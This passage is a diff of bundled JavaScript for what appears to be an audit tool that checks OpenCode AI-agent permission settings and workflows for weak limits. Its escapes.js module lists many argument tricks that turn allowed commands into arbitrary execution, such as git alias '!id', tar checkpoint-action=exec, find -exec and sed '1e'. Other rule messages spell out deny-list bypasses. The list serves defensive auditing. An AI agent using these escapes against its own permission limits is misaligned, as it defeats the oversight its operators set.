+            const keys = KEYS.filter((key) => !(key === 'task' && escalates));
+            const widened = keys.flatMap((key) => widening(context, agent, key) ?? []);
+            const [first] = widened;
+            const spot = first === undefined ? null : spotOfRule(first.rule);
+            if (first === undefined || spot === null)
+                continue;
+            const names = quoteNames(widened.map(({ key }) => key));
+            const origin = first.general.origin;
+            const where = origin === null ? '' : ` (${quoteName(origin.path)} line ${origin.line})`;
+            const message = `The agent ${quoteName(agent.name)} may use ${names} unasked, where the permission for all agents says "${first.general.action}"${where}.`;
+            const isMeant = widened.every(({ general }) => general.action === 'ask' || matchesAll(general.permission));
+            yield { ...spot, message, remedy: agent_widens_global_REMEDY, ...(isMeant ? { severity: 'low' } : {}) };
+        }
+    },
+};
+const agent_widens_global_REMEDY = 'Keep what is said for all agents, or narrow the rule to what this agent needs, for example edit: { "*": "deny", "docs/*": "allow" }.';
+/** What rules of their own say more about (bash, other folders) is left to them. */
+const KEYS = ['edit', 'webfetch', 'websearch', 'task'];
+function widening(context, agent, key) {
+    const rule = openingRule(agent, key);
+    if (rule === null || rule.origin === null || !isOwn(rule) || isShownAsAllowAll(agent, rule))
+        return null;
+    if (key === 'edit' && isReviewer(agent) && isOn(context, 'edit-in-reviewer'))
+        return null;
+    const forAll = agent.rules.filter((one) => one.origin === null || !isOwn(one));
+    const general = decidingRule(forAll, key, PROBES[key]);
+    if (general === undefined || general.origin === null || general.action === 'allow')
+        return null;
+    return { key, rule, general };
+}
+
+;// CONCATENATED MODULE: ./build/audit/texts.js
+
+/** The values of an object that are texts. */
+function textsByKey(node) {
+    return entriesOf(node).flatMap(({ key, node }) => {
+        const text = stringOf(node);
+        return text === undefined ? [] : [{ key, text, place: node.place }];
+    });
+}
+/** The items of a list that are texts; other items are left out. */
+function textsInList(node) {
+    return itemsOf(node).flatMap((item) => {
+        const text = stringOf(item);
+        return text === undefined ? [] : [{ key: '', text, place: item.place }];
+    });
+}
+/** Every text below a node, however deep, with the nearest key above it. */
+function* textsBelow(node, key = '') {
+    if (node === undefined)
+        return;
+    const text = stringOf(node);
+    if (text !== undefined)
+        yield { key, text, place: node.place };
+    for (const item of itemsOf(node))
+        yield* textsBelow(item, key);
+    for (const entry of entriesOf(node))
+        yield* textsBelow(entry.node, entry.key);
+}
+
+;// CONCATENATED MODULE: ./build/audit/workflow.js
+
+
+function workflowsOf({ project }) {
+    const known = workflow_KNOWN.get(project) ?? readWorkflows(project);
+    workflow_KNOWN.set(project, known);
+    return known;
+}
+/** Several rules ask for every step; they are read once. */
+const workflow_KNOWN = new WeakMap();
+function readWorkflows(project) {
+    return [...project.assets.values()].flatMap((asset) => {
+        const workflow = asset.kind === 'workflow' && asset.root !== null ? workflowOf(asset, asset.root) : null;
+        return workflow === null ? [] : [workflow];
+    });
+}
+function workflowOf(asset, root) {
+    const isAction = !asset.path.startsWith('.github/workflows/');
+    const jobs = isAction
+        ? [jobOf('action', root.place, get(root, 'runs'))]
+        : entriesOf(get(root, 'jobs')).map(({ key, place, node }) => jobOf(key, place, node));
+    const environment = textsByKey(get(root, 'env'));
+    const steps = jobs.flatMap((job) => job.steps.map((step) => ({ job, step })));
+    return {
+        path: asset.path,
+        isAction,
+        triggers: triggersOf(get(root, 'on')),
+        environment,
+        permissions: get(root, 'permissions'),
+        jobs,
+        steps,
+        variables: [
+            ...environment,
+            ...jobs.flatMap((job) => job.environment),
+            ...steps.flatMap(({ step }) => step.environment),
+        ],
+    };
+}
+function jobOf(name, place, node) {
+    return {
+        name,
+        place,
+        environment: textsByKey(get(node, 'env')),
+        permissions: get(node, 'permissions'),
+        uses: textAt(node, 'uses'),
+        inputs: [...textsByKey(get(node, 'with')), ...textsByKey(get(node, 'secrets'))],
+        steps: itemsOf(get(node, 'steps')).map(stepOf),
+    };
+}
+function stepOf(node) {
+    return {
+        place: node.place,
+        uses: textAt(node, 'uses'),
+        run: textAt(node, 'run'),
+        inputs: textsByKey(get(node, 'with')),
+        environment: textsByKey(get(node, 'env')),
+    };
+}
+function textAt(node, key) {
+    return textsByKey(node).find((text) => text.key === key) ?? null;
+}
+function triggersOf(node) {
+    const one = stringOf(node);
+    if (one !== undefined)
+        return [one];
+    return [...itemsOf(node).flatMap((item) => stringOf(item) ?? []), ...entriesOf(node).map(({ key }) => key)];
+}
+/** The line of a script in which a word of it stands; a script usually begins on the line below its key. */
+function placeInRun({ project }, { text, place }, word) {
+    const lines = project.assets.get(place.path)?.lines ?? [];
+    const last = place.line + text.split('\n').length + 1;
+    for (let line = place.line; line <= Math.min(last, lines.length); line += 1) {
+        if (lines[line - 1]?.includes(word) === true)
+            return { ...place, line };
+    }
+    return place;
+}
+/** The commands of a script, one by one: continued lines are joined, and `;`, `&&`, `|` end a command. */
+function commandsIn(script) {
+    const commands = [];
+    let start = 0;
+    let quote = '';
+    const text = script.replace(/\\\r?\n/g, ' ');
+    for (let at = 0; at <= text.length; at += 1) {
+        const character = text[at] ?? '\n';
+        if (quote === '' && /["'`]/.test(character))
+            quote = character;
+        else if (character === quote)
+            quote = '';
+        else if (at === text.length || (quote === '' && /[\n;&|]/.test(character))) {
+            commands.push(text.slice(start, at).trim());
+            start = at + 1;
+        }
+    }
+    return commands.filter((command) => command !== '' && !command.startsWith('#'));
+}
+
+;// CONCATENATED MODULE: ./build/audit/workflow-agent.js
+
+/** The program, by whatever way it is started, with something for it to do. */
+const PROGRAM = /(?:^|[\s"'=(])(?:[~\w./${}-]{0,200}\/)?opencode(?:-ai)?(?:@[\w.^~-]+)?["']?\s+(?:["']|\$|run\b|github\b|serve\b|web\b|acp\b|attach\b|-)/;
+const ONLY_ASKS = /opencode(?:-ai)?["']?\s+(?:--version|-v|--help|-h)\s*$/;
+const ACTION = /(?:^|[/_-])opencode(?:[/@_-]|$)/i;
+/** This gate starts OpenCode without a secret and without a network. */
+const GATE = /\/opencode-review-gate@/i;
+/** Whether a step runs an OpenCode agent, itself or through an action. */
+function runsOpenCode(step) {
+    if (step.uses !== null && ACTION.test(step.uses.text) && !GATE.test(step.uses.text)) {
+        return !/(?:^|[/_-])(?:setup|install)[/_-]?opencode|opencode[/_-](?:setup|install)/i.test(step.uses.text);
+    }
+    return step.run !== null && openCodeCommands(step.run.text).length > 0;
+}
+/** The commands of a script that start an agent. */
+function openCodeCommands(script) {
+    return commandsIn(script).filter((command) => PROGRAM.test(command) && !ONLY_ASKS.test(command));
+}
+/** The steps of a job that run an agent, also through an action of the repository. */
+function agentSteps(job, context) {
+    const actions = agentActions(context);
+    return job.steps.filter((step) => runsOpenCode(step) || isCalled(step, actions));
+}
+function isCalled(step, actions) {
+    const folder = localFolder(step);
+    return folder !== null && actions.has(folder);
+}
+/** Whether anything in a workflow starts an agent. */
+function startsOpenCode({ jobs }, context) {
+    return jobs.some((job) => agentSteps(job, context).length > 0);
+}
+/** The folders of the actions that run an agent. */
+function agentActions(context) {
+    const known = workflow_agent_KNOWN.get(context.project) ?? findAgentActions(context);
+    workflow_agent_KNOWN.set(context.project, known);
+    return known;
+}
+const workflow_agent_KNOWN = new WeakMap();
+function findAgentActions(context) {
+    return new Set(workflowsOf(context)
+        .filter((one) => one.isAction && one.steps.some(({ step }) => runsOpenCode(step)))
+        .map((one) => one.path.replace(/\/?action\.ya?ml$/, '')));
+}
+/** `uses: ./tools/review`; null for an action from elsewhere. */
+function localFolder({ uses }) {
+    return /^\.\/(.*?)\/?$/.exec(uses?.text ?? '')?.[1] ?? null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/unattended.js
+
+
+
+const AGENT = /(?:^|\s)--agent(?:\s+|=)["']?([^\s"'$]+)/;
+const APPROVES = /(?:^|\s)--(?:auto|yolo|dangerously-skip-permissions)(?=\s|=|$)/;
+const RUNS = /\bopencode(?:-ai)?\S*\s+(?:run|github\s+run)\b/;
+/** The agents of the repository that its workflows run with nobody to answer, by name. */
+function unattendedAgents(context) {
+    const found = new Map();
+    const config = context.project.setUps[0]?.config;
+    const usual = stringOf(get(config, 'default_agent')) ?? 'build';
+    const steps = workflowsOf(context).flatMap((workflow) => workflow.steps);
+    for (const { name, place } of steps.flatMap(({ step }) => namedIn(step, usual, context))) {
+        if (!found.has(name))
+            found.set(name, place);
+    }
+    return found;
+}
+function namedIn(step, usual, context) {
+    const { run, uses } = step;
+    if (!runsOpenCode(step))
+        return [];
+    if (uses !== null) {
+        const input = step.inputs.find(({ key }) => key === 'agent');
+        if (input?.text.includes('${{') === true)
+            return [];
+        return [{ name: input?.text ?? usual, place: (input ?? uses).place }];
+    }
+    if (run === null)
+        return [];
+    return openCodeCommands(run.text)
+        .filter((command) => RUNS.test(command) && !APPROVES.test(command))
+        .flatMap((command) => {
+        const name = AGENT.exec(command)?.[1];
+        if (name === undefined && /(?:^|\s)--agent\b/.test(command))
+            return [];
+        return [{ name: name ?? usual, place: placeInRun(context, run, name ?? 'opencode') }];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/ask-when-unattended.js
+
+
+
+
+
+const askWhenUnattended = {
+    id: 'ask-when-unattended',
+    title: 'An agent asks where nobody answers',
+    summary: 'A workflow runs an agent whose permission asks, and without an answer the call is rejected.',
+    severity: 'medium',
+    confidence: 'medium',
+    category: 'permissions',
+    *check(context) {
+        const unattended = unattendedAgents(context);
+        for (const { setUp, agent } of agentsOf(context)) {
+            const run = setUp.folder === '' ? unattended.get(agent.name) : undefined;
+            const asking = run === undefined ? [] : asked(agent);
+            const spot = asking[0] === undefined ? null : spotOf(agent, asking[0].rule);
+            if (run === undefined || spot === null)
+                continue;
+            yield { ...spot, ...ask_when_unattended_describe(agent, run, asking), identity: identityOf(agent, spot) };
+        }
+    },
+};
+/** What is asked because somebody wrote so; what OpenCode asks by itself is meant as a stop. */
+function asked(agent) {
+    return ['bash', 'edit', 'webfetch'].flatMap((key) => {
+        const rule = decidingRule(agent.rules, key, PROBES[key]);
+        return rule?.action === 'ask' && rule.origin !== null ? [{ key, rule }] : [];
+    });
+}
+function ask_when_unattended_describe(agent, run, asking) {
+    const keys = quoteNames(asking.map(({ key }) => key));
+    const message = `${quoteName(agent.name)} is run by ${quoteName(run.path)} (line ${run.line}), where a question has nobody to answer it: each use of ${keys} that is asked for is rejected, and the run can end with exit code 0 and no result.`;
+    const remedy = `Decide it beforehand for this agent: allow the commands and files that the job needs, and "deny" the rest.`;
+    return { message, remedy };
+}
+/** A rule for all agents can stand against several of them. */
+function identityOf(agent, spot) {
+    return `${agent.name} ${spot.identity ?? spot.scope ?? ''}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/assets-without-owner.js
+
+const assetsWithoutOwner = {
+    id: 'assets-without-owner',
+    title: 'Nobody has to approve changes of the agents',
+    summary: 'CODEOWNERS names nobody for files that decide what agents do, so that anyone may approve a change of them.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'governance',
+    *check(context) {
+        const { owners } = context;
+        const areas = areasOf(context);
+        if (owners === null) {
+            const first = [...areas.values()][0]?.[0];
+            if (first !== undefined)
+                yield withoutFile(first);
+            return;
+        }
+        for (const [area, paths] of areas) {
+            const open = paths.filter((path) => !owners.covers(path));
+            if (open.length > 0)
+                yield assets_without_owner_hitFor(area, open, owners.path);
+        }
+    },
+};
+/** One finding for a repository without the file: who writes it sees the rest. */
+function withoutFile(first) {
+    const message = 'The repository has no CODEOWNERS file at the base: anyone who may approve pull requests may approve one that changes what agents do.';
+    const remedy = 'Add .github/CODEOWNERS with owners for /.opencode/, /opencode.json, /AGENTS.md and /.github/, and require their approval on the protected branch.';
+    return { path: first, line: 0, message, identity: 'no CODEOWNERS', remedy };
+}
+function assets_without_owner_hitFor(area, open, path) {
+    const files = open.length === 1 ? `the file ${quoteNames(open)}` : `the files ${quoteNames(open)}`;
+    const message = `CODEOWNERS of the base names nobody for ${files}: anyone who may approve pull requests may approve a change of what agents do there.`;
+    const remedy = `Add a line such as "${area} @your-org/your-team" to CODEOWNERS, below the lines that match it now.`;
+    return { path, line: 0, message, identity: area, remedy };
+}
+/** What needs an owner, by the line of CODEOWNERS that would give it one. */
+function areasOf({ project, policy }) {
+    const areas = new Map();
+    const add = (area, path) => {
+        const paths = areas.get(area) ?? [];
+        paths.push(path);
+        areas.set(area, paths);
+    };
+    for (const asset of project.assets.values()) {
+        if (decides(asset))
+            add(areaOf(asset.path), asset.path);
+    }
+    if (areas.size > 0 && !policy.isDefault)
+        add('/.github/', policy.path);
+    return areas;
+}
+/** A workflow counts when it has to do with OpenCode; what is only read along (a theme, a lock file) does not. */
+function decides({ kind, text }) {
+    if (kind === 'other' || kind === 'folder')
+        return false;
+    return kind !== 'workflow' || /opencode/i.test(text ?? '');
+}
+function areaOf(path) {
+    const folder = /^(?:.*\/)?(?:\.opencode|\.claude|\.agents|\.github)\//.exec(path)?.[0];
+    return `/${folder ?? path}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/affordable.js
+/** Comparisons of one rule with all others that an agent gets; all that a person writes needs far fewer. */
+const COMPARISONS = 4_000_000;
+/** How many rules of an agent can each be compared with all of its `rules`, so that no file takes minutes. */
+function affordable(rules) {
+    return Math.max(50, Math.floor(COMPARISONS / Math.max(rules, 1)));
+}
+
+;// CONCATENATED MODULE: ./build/audit/in-map.js
+
+/** Whether a rule is one pattern of a map, not one action for a whole key. */
+function isInMap(rule) {
+    return mapOf(rule) !== null;
+}
+/** The keys that lead to the map that a pattern stands in; null for a rule that is not in a map. */
+function mapOf({ way, permission, pattern }) {
+    if (way.endsWith(`.${permission}.${pattern}`))
+        return way.slice(0, -(pattern.length + 1));
+    // In the file it says "~" or "$HOME".
+    const start = pattern.startsWith(HOME) ? way.lastIndexOf(`.${permission}.`) : -1;
+    return start < 0 ? null : way.slice(0, start + permission.length + 1);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rewrite-line.js
+const MAX_LINE = 500;
+/** The line of a rule with another action. `value` is written as it stands: an action, or a map on one line. */
+function withAction(context, rule, value) {
+    const line = lineAt(context, rule.origin);
+    if (line === null || rule.origin === null)
+        return {};
+    const start = rule.origin.column - 1;
+    const match = /^("(?:[^"\\]|\\.)*"|'[^']*'|[\w*-]+)(\s*:\s*)?("\w+"|'\w+'|\w+)?/.exec(line.slice(start));
+    if (match === null)
+        return {};
+    const [whole, first = '', colon = '', second] = match;
+    const old = colon === '' ? first : second;
+    if (old === undefined || !new RegExp(`^["']?${rule.action}["']?$`).test(old))
+        return {};
+    const kept = colon === '' ? '' : first + colon;
+    return offer(line.slice(0, start) + kept + written(value, rule.origin) + line.slice(start + whole.length));
+}
+/** The line of a rule with `key: action` on a line of its own before it. */
+function withLineBefore(context, place, key, action) {
+    const line = lineAt(context, place);
+    const own = line === null ? null : ownLine(line, place);
+    if (line === null || own === null)
+        return {};
+    const comma = isMarkdown(place) ? '' : ',';
+    return offer(`${own.indent}${quoted(key, place)}: ${written(action, place)}${comma}\n${line}`);
+}
+/** The line of a rule with more entries, each on a line of its own after it. */
+function withLineAfter(context, place, entries) {
+    const line = lineAt(context, place);
+    const own = line === null || place === null ? null : ownLine(line, place);
+    if (line === null || place === null || own === null)
+        return {};
+    if (!/^\s*:\s*["']?\w+["']?,?\s*$/.test(own.rest))
+        return {};
+    const added = entries.map(([key, action]) => `${own.indent}${quoted(key, place)}: ${written(action, place)}`);
+    if (isMarkdown(place))
+        return offer([line, ...added].join('\n'));
+    const end = line.trimEnd().endsWith(',') ? ',' : '';
+    return offer([line.trimEnd().replace(/,$/, ''), ...added].join(',\n') + end);
+}
+/** The line of a rule with another key. */
+function withKey(context, place, from, to) {
+    const line = lineAt(context, place);
+    if (line === null)
+        return {};
+    const start = place.column - 1;
+    for (const mark of ['"', "'", '']) {
+        const old = `${mark}${from}${mark}`;
+        if (!line.startsWith(old, start))
+            continue;
+        return offer(line.slice(0, start) + mark + to + mark + line.slice(start + old.length));
+    }
+    return {};
+}
+function lineAt({ project }, place) {
+    if (place === null)
+        return null;
+    const line = project.assets.get(place.path)?.lines[place.line - 1];
+    return line === undefined || line.length > MAX_LINE ? null : line;
+}
+/** A key as the file of the place would write it. */
+function quoted(key, place) {
+    return isMarkdown(place) && /^[a-z_]+$/i.test(key) ? key : JSON.stringify(key);
+}
+function written(value, place) {
+    const action = (text) => (isMarkdown(place) ? text : JSON.stringify(text));
+    if (typeof value === 'string')
+        return action(value);
+    return `{ ${value.map(([key, text]) => `${JSON.stringify(key)}: ${action(text)}`).join(', ')} }`;
+}
+function isMarkdown(place) {
+    return place.path.endsWith('.md');
+}
+/** A key that is the first thing on its line. */
+function ownLine(line, place) {
+    const indent = line.slice(0, place.column - 1);
+    const match = /^("(?:[^"\\]|\\.)*"|'[^']*'|[\w*-]+)/.exec(line.slice(place.column - 1));
+    if (match === null || indent.trim() !== '')
+        return null;
+    return { indent, key: match[0], rest: line.slice(place.column - 1 + match[0].length) };
+}
+function offer(suggestion) {
+    return { suggestion };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/bare-command-pattern.js
+
+
+
+
+
+
+
+
+const bareCommandPattern = {
+    id: 'bare-command-pattern',
+    title: 'A pattern that matches a command without arguments only',
+    summary: 'A pattern for shell commands has no "*", so that the command with any argument is decided elsewhere.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(casesOf(context))) {
+            const { pattern, action } = value.rule;
+            const limits = action !== 'allow';
+            const message = `${quoteName(pattern)} is "${action}" for exactly this text; ${quoteName(`${pattern} ${ARGUMENT}`)} is "${value.otherwise}" for ${nameAgents(agents)}.`;
+            const remedy = limits
+                ? `Write "${pattern} *": it matches the command with and without arguments.`
+                : `Write the whole command with the arguments that the agent needs; "${pattern}" alone only prints its help.`;
+            const offer = limits && value.rule.origin !== null
+                ? withKey(context, value.rule.origin, pattern, `${pattern} *`)
+                : {};
+            yield { ...spot, message, remedy, ...offer, ...(limits ? {} : { severity: 'low' }) };
+        }
+    },
+};
+const ARGUMENT = '--any';
+/** Commands that do nothing by themselves. */
+const NEEDS_ARGUMENTS = /^(?:git|npm|pnpm|bun|npx|bunx|docker|podman|kubectl|helm|gh|glab|cargo|go|pip|pip3|uv|poetry|terraform|aws|gcloud|az|grep|rg|sed|awk|curl|wget|cat|head|tail|cp|mv|rm|mkdir|touch|chmod|echo|jq|dotnet)$/;
+/** Where any command runs, such a list is no limit at all, and rules for that say so. */
+function* casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        if (openingRule(agent, 'bash') !== null)
+            continue;
+        for (const rule of agent.rules.filter(isBare).slice(-affordable(agent.rules.length))) {
+            const otherwise = evaluate(agent.rules, 'bash', `${rule.pattern} ${ARGUMENT}`);
+            if (!isMistake(agent, rule, otherwise))
+                continue;
+            yield { spot: spotOfRule(rule), agent, value: { rule, otherwise } };
+        }
+    }
+}
+function isBare(rule) {
+    const isWritten = rule.origin !== null && isInMap(rule) && matches(rule.permission, 'bash');
+    return isWritten && /^[\w./-]+(?: [\w./:-]+)*$/.test(rule.pattern);
+}
+/** A limit is a mistake when arguments get round it; a permission when the command alone is of no use. */
+function isMistake(agent, { pattern, action }, otherwise) {
+    if (action === otherwise)
+        return false;
+    if (action !== 'allow')
+        return otherwise === 'allow';
+    if (!NEEDS_ARGUMENTS.test(pattern))
+        return false;
+    return !agent.rules.some((rule) => rule.action === 'allow' && rule.pattern.startsWith(`${pattern} `));
+}
+
+;// CONCATENATED MODULE: ./build/audit/open-bash.js
+
+
+
+
+/** Every agent that may run any command, for the one rule that explains it best. */
+function openBash(context, shownBy) {
+    const known = open_bash_MEMO.get(context) ?? [...open_bash_casesOf(context)];
+    open_bash_MEMO.set(context, known);
+    return known.filter(({ value }) => value.shownBy === shownBy);
+}
+/** Four rules ask the same of each agent. */
+const open_bash_MEMO = new WeakMap();
+function* open_bash_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const opening = openingRule(agent, 'bash');
+        if (opening === null)
+            continue;
+        const open = explain(context, agent, opening);
+        yield { spot: open_bash_spotFor(agent, open), agent, value: open };
+    }
+}
+function explain(context, agent, opening) {
+    const listed = listedAfter(agent, opening);
+    const editDenied = writtenEditDenial(agent);
+    const open = { agent, opening, listed, editDenied };
+    if (isShownAsAllowAll(agent, opening))
+        return { ...open, shownBy: 'permission-allow-all' };
+    const last = listed.at(-1);
+    const map = last === undefined ? null : mapOf(last);
+    if (map !== null && map !== mapOf(opening) && isOn(context, 'bash-map-without-star')) {
+        return {
+            ...open,
+            listed: listed.filter((rule) => mapOf(rule) === map),
+            shownBy: 'bash-map-without-star',
+        };
+    }
+    const limits = listed.filter((rule) => rule.action !== 'allow');
+    if (limits.length > 0 && opening.origin !== null && isOn(context, 'bash-deny-list')) {
+        return { ...open, listed: limits, shownBy: 'bash-deny-list' };
+    }
+    const shownBy = editDenied !== null && isOn(context, 'bash-defeats-edit-deny')
+        ? 'bash-defeats-edit-deny'
+        : 'bash-unrestricted';
+    return { ...open, shownBy };
+}
+/** At the list itself, where a list is the trouble. */
+function open_bash_spotFor(agent, { shownBy, opening, listed, editDenied }) {
+    const first = listed[0];
+    if (shownBy === 'bash-map-without-star' && first !== undefined)
+        return spotOfRule(first);
+    if (shownBy === 'bash-deny-list')
+        return spotOfRule(opening);
+    const isHere = opening.origin !== null && opening.way.startsWith('agent.');
+    if (shownBy === 'bash-defeats-edit-deny' && editDenied !== null && !isHere)
+        return spotOfRule(editDenied);
+    return spotOf(agent, opening);
+}
+function listedAfter(agent, opening) {
+    return agent.rules
+        .slice(agent.rules.lastIndexOf(opening) + 1)
+        .filter((rule) => rule.origin !== null && matches(rule.permission, 'bash') && !matchesAll(rule.pattern));
+}
+function writtenEditDenial(agent) {
+    const rule = decidingRule(agent.rules, 'edit', PROBES.edit);
+    return rule?.action === 'deny' && rule.origin !== null ? rule : null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/bash-defeats-edit-deny.js
+
+
+
+const bashDefeatsEditDeny = {
+    id: 'bash-defeats-edit-deny',
+    title: 'Editing is denied, and the shell edits',
+    summary: 'An agent may not edit files, but may run any shell command, which edits them all the same.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(openBash(context, 'bash-defeats-edit-deny'))) {
+            const why = value.opening.origin === null ? ', which OpenCode allows by default' : '';
+            const message = `Editing is denied to ${nameAgents(agents)} on paper only: any shell command is allowed${why}, and "echo … > src/index.ts" or "sed -i …" asks nobody.`;
+            yield { ...spot, message, remedy: bash_defeats_edit_deny_REMEDY, ...offerFor(context, value, spot) };
+        }
+    },
+};
+const bash_defeats_edit_deny_REMEDY = 'Limit bash as well: "deny", "ask", or a map that starts with "*": "deny" and lists exact commands that only read.';
+function offerFor(context, { opening, editDenied }, spot) {
+    if (opening.origin?.path === spot.path && opening.origin.line === spot.line) {
+        return withAction(context, opening, 'ask');
+    }
+    if (editDenied?.origin?.line !== spot.line || editDenied.permission !== 'edit')
+        return {};
+    return /\.permission(?:\.edit)?$/.test(editDenied.way) && opening.origin === null
+        ? withLineAfter(context, editDenied.origin, [['bash', 'ask']])
+        : {};
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/bash-deny-list.js
+
+
+
+
+const bashDenyList = {
+    id: 'bash-deny-list',
+    title: 'A list of forbidden commands limits nothing',
+    summary: 'Every shell command is allowed except for some that are listed, and other spellings pass the list.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(openBash(context, 'bash-deny-list'))) {
+            const patterns = value.listed.map((rule) => rule.pattern);
+            const message = `${agentsMay(agents)} run any command except ${quoteNames(patterns)}, and these as well in another spelling: ${spellings(patterns)}.`;
+            yield { ...spot, message, remedy: bash_deny_list_REMEDY, ...withAction(context, value.opening, 'ask') };
+        }
+    },
+};
+const bash_deny_list_REMEDY = 'Start from "*": "ask" or "*": "deny" and list the commands that are allowed; keep the denials after them.';
+/** The first pattern that names a command, written so that it does not match. */
+function spellings(patterns) {
+    const words = patterns.map((pattern) => pattern.replaceAll(/\*/g, '').trim());
+    const first = words.find((text) => /^[a-z][\w .-]*$/i.test(text) && text.length < 40) ?? 'rm -rf';
+    return `"sh -c '${first} …'", "A=1 ${first} …"`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/bash-map-without-star.js
+
+
+
+const bashMapWithoutStar = {
+    id: 'bash-map-without-star',
+    title: 'Commands that are not listed stay allowed',
+    summary: 'A map of shell commands has no "*", and what it does not list is allowed already.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(openBash(context, 'bash-map-without-star'))) {
+            const first = value.listed[0]?.origin;
+            const before = value.opening.origin === null ? "OpenCode's default allows it" : 'an earlier rule allows it';
+            const message = `This map says nothing about commands that it does not list, and ${before}: ${nameAgents(agents)} may run anything else without a question, for example "sh -c id".`;
+            const offer = first ? withLineBefore(context, first, '*', 'ask') : {};
+            yield { ...spot, message, remedy: bash_map_without_star_REMEDY, ...offer };
+        }
+    },
+};
+const bash_map_without_star_REMEDY = 'Put "*": "ask" or "*": "deny" first in the map. The last rule that matches decides, so the commands stay after it.';
+
+;// CONCATENATED MODULE: ./build/audit/escapes.js
+const NODE = `-e 'require("child_process").execSync("id")'`;
+const PYTHON = `-c 'import os; os.system("id")'`;
+const SCRIPT_SHELL = '--script-shell=id';
+const INTO_FILE = '> src/index.ts';
+/** Commands whose work is to start another one. */
+const STARTERS = words('eval exec command env xargs nohup nice setsid sudo doas time strace');
+/** Commands that print files: OpenCode takes a redirection for a part of the command. */
+const PRINTERS = words('cat head tail tac nl less more strings paste fold column bat');
+/** In the order in which they are tried: what runs any program comes before what only writes. */
+const ESCAPES = [
+    ...runs('git', `-c alias.x='!id' x`),
+    ...runs('git difftool', '--no-prompt --extcmd=id HEAD~1'),
+    ...runs('git grep', '--open-files-in-pager=id .'),
+    ...runs('git fetch', '--upload-pack=id .'),
+    ...runs('git pull', '--upload-pack=id .'),
+    ...runs('git ls-remote', '--upload-pack=id .'),
+    ...runs('git clone', '--upload-pack=id . copy'),
+    ...runs('git push', '--receive-pack=id . HEAD'),
+    ...runs('git archive', '--remote=. --exec=id HEAD'),
+    ...runs('git rebase', '--force-rebase --exec id HEAD~1'),
+    ...runs('git bisect', 'run id'),
+    ...runs('git submodule', 'foreach id'),
+    ...runs('git config', `core.fsmonitor 'id #'`),
+    ...runs('npm exec', `--call 'id'`),
+    ...runs('npm x', `--call 'id'`),
+    ...anywhere('npm run', SCRIPT_SHELL),
+    ...anywhere('npm test', SCRIPT_SHELL),
+    ...anywhere('npm start', SCRIPT_SHELL),
+    ...runs('npm install', './notes'),
+    ...runs('npx', `--call 'id'`),
+    ...runs('pnpm exec', 'id'),
+    ...runs('pnpm dlx', 'any-package'),
+    ...runs('yarn exec', 'id'),
+    ...runs('yarn dlx', 'any-package'),
+    ...runs('bun', NODE),
+    ...runs('bun x', 'any-package'),
+    ...runs('bun run', './notes.ts'),
+    ...runs('bunx', 'any-package'),
+    ...runs('deno eval', `'new Deno.Command("id").spawn()'`),
+    ...runs('deno run', `-A 'data:text/javascript,new Deno.Command("id").spawn()'`),
+    ...runs('node', NODE),
+    ...runs('tsx', NODE),
+    ...runs('ts-node', NODE),
+    ...['python', 'python3', 'uv run python', 'uv run python3'].flatMap((name) => runs(name, PYTHON)),
+    ...runs('uv run', 'id'),
+    ...runs('uvx', 'any-package'),
+    ...runs('uv tool run', 'any-package'),
+    ...runs('pipx run', 'any-package'),
+    ...runs('poetry run', 'id'),
+    ...runs('pipenv run', 'id'),
+    ...runs('pip install', './notes'),
+    ...runs('pip3 install', './notes'),
+    ...runs('uv pip install', './notes'),
+    ...runs('bundle exec', 'id'),
+    ...runs('ruby', `-e 'exec "id"'`),
+    ...runs('perl', `-e 'exec "id"'`),
+    ...runs('php', `-r 'system("id");'`),
+    ...runs('lua', `-e 'os.execute("id")'`),
+    ...runs('Rscript', `-e 'system("id")'`),
+    ...runs('osascript', `-e 'do shell script "id"'`),
+    ...runs('pwsh', '-c id'),
+    ...runs('powershell', '-c id'),
+    ...words('sh bash zsh dash fish ksh').flatMap((name) => runs(name, '-c id')),
+    ...STARTERS.flatMap((name) => runs(name, 'id')),
+    ...['source', '.'].flatMap((name) => runs(name, './notes.sh')),
+    ...runs('timeout', '9 id'),
+    ...runs('watch', '-x id'),
+    ...runs('parallel', 'id ::: x'),
+    ...runs('script', '-c id'),
+    ...runs('tmux', 'new-session -d id'),
+    ...runs('screen', '-dm id'),
+    ...runs('crontab', 'notes.txt'),
+    ...runs('nix-shell', '--run id'),
+    ...anywhere('find', '-exec id {} +'),
+    ...anywhere('fd', '-x id'),
+    ...anywhere('rg', '--pre sh -e x notes.txt'),
+    ...anywhere('sed', `-e '1e id' README.md`),
+    ...['awk', 'gawk', 'mawk', 'nawk'].flatMap((name) => runs(name, `'BEGIN { system("id") }'`)),
+    ...runs('tar', '-cf /dev/null . --checkpoint=1 --checkpoint-action=exec=id'),
+    ...runs('zip', `x.zip README.md -T -TT 'id #'`),
+    ...runs('rsync', `-e 'sh -c id' x: .`),
+    ...['vi', 'vim', 'nvim', 'ex'].flatMap((name) => runs(name, `-es -c '!id' -c 'qa!'`)),
+    ...runs('emacs', `--batch --eval '(shell-command "id")'`),
+    ...anywhere('bat', '--paging=always --pager=id README.md'),
+    ...runs('ag', '--pager id x'),
+    ...runs('ack', '--pager=id x'),
+    ...anywhere('make', `--eval='$(shell id >&2)'`),
+    ...runs('just', '--command id'),
+    ...runs('go run', './notes'),
+    ...runs('go generate', './...'),
+    ...anywhere('go test', `-exec 'sh -c id' ./...`),
+    ...anywhere('go build', `-a -toolexec 'sh -c id' ./...`),
